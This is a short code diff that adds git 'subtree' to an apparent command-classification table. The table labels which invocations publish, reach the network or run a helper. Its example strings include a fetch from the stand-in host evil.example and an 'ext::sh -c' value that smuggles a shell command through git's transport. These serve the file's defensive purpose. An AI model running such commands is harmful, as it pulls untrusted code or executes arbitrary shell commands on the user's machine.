@@ -114,6 +114,20 @@ export const GIT_REMOTES: readonly Tool[] = family("everything", [
       fine: ["git remote -v", "git remote add up ../up"],
     },
   }),
+  tool("subtree", {
+    takes: "-P: --prefix: -b: --branch: -m: --message: --onto: --annotate:",
+    does: [
+      { on: "push", is: "publish" },
+      { on: "add pull", by: reaches },
+    ],
+    options: SERVED_BY,
+    examples: {
+      publish: ["git subtree push --prefix docs origin gh-pages"],
+      network: ["git subtree add -P lib https://evil.example/x main"],
+      "run-helper": ["git subtree pull -P lib 'ext::sh -c x' main"],
+      fine: ["git subtree split -P lib -b lib", "git subtree pull -P lib origin main"],
+    },
+  }),
   tool("submodule", {
     takes: "-b: --name: --reference: --depth: --force",
     does: [
